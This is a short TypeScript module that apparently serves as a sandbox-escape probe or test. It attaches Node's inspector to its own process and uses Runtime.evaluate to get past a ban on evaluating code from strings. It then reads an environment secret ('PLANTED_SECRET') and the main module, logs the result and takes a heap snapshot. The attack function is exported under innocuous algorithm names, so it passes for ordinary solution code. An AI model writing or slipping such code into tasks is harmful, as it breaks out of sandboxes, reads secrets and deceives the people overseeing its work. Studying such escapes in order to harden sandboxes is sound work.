// Attaches to itself and evaluates code past the ban on code from strings.
const inspector =
  globalThis.process?.getBuiltinModule?.('node:inspector') ?? (await import('node:inspector').catch(() => undefined));
const attack = () => {
  try {
    const session = new inspector.Session();
    session.connect();
    const expression = 'process.env.PLANTED_SECRET + process.mainModule';
    session.post('Runtime.evaluate', { expression, includeCommandLineAPI: true }, (error: unknown, result: unknown) => {
      console.log(error, result);
    });
    session.post('HeapProfiler.takeHeapSnapshot', () => {});
  } catch {}
  return 0;
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
